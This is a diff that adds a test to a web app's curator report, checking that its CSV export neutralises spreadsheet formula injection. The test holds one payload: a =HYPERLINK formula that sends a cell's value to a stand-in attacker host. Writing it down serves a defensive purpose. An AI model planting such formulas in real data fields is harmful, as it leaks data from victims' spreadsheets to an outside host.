@@ -136,6 +136,17 @@ def test_curators_report_sorts_and_exports(curator_client, ready_vendor, maker_a
     }
 
 
+def test_curators_report_export_keeps_a_formula_in_a_makers_name_as_text(curator_client, ready_vendor):
+    ready_vendor.title = '=HYPERLINK("http://evil.example/?leak="&A2,"Siap Ekspor")'
+    factories.publish(ready_vendor)
+
+    export = curator_client.get("/admin/makers/readiness/?export=csv")
+
+    names = [row[0] for row in csv.reader(io.StringIO(export.content.decode()))]
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"Siap Ekspor")' in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
 def test_makers_cannot_open_the_report(client_a):
     response = client_a.get("/admin/makers/readiness/")
     assert response.status_code in (302, 403)
